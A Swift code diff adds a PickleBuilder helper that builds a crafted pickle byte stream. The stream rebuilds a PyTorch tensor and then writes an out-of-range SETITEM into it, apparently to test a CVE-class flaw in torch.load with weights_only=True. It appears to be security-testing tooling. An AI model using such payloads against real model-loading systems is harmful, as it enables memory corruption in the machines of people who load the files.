@@ -144,5 +144,35 @@ public struct PickleBuilder: Sendable {
         return p.finished()
     }
 
+    /// A tensor rebuilt by `torch._utils._rebuild_tensor_v2`, then written into with SETITEM
+    /// (`tensor[key] = value`): the shape aimed at `torch.load(weights_only=True)` (CVE-2026-24747 class),
+    /// whose allowlisted rebuild helpers hand SETITEM a tensor instead of a dict.
+    public static func tensorSetItem(key: Int = 1 << 20, value: Int = 0x4141) -> [UInt8] {
+        var p = PickleBuilder(protocol: 2)
+        p.global("torch._utils", "_rebuild_tensor_v2")
+        p.op(.mark)
+        p.op(.mark)
+        p.string("storage")
+        p.global("torch", "FloatStorage")
+        p.string("0")
+        p.string("cpu")
+        p.int(4)
+        p.op(.tuple)
+        p.op(.binPersID)
+        p.int(0)
+        p.int(4); p.op(.tuple1)
+        p.int(1); p.op(.tuple1)
+        p.op(.newFalse)
+        p.global("collections", "OrderedDict")
+        p.op(.emptyTuple)
+        p.op(.reduce)
+        p.op(.tuple)
+        p.op(.reduce)
+        p.int(key)
+        p.int(value)
+        p.op(.setItem)
+        return p.finished()
+    }
+
     func le(_ v: UInt64, _ n: Int) -> [UInt8] { (0..<n).map { UInt8(truncatingIfNeeded: v >> (8 * UInt64($0))) } }
 }
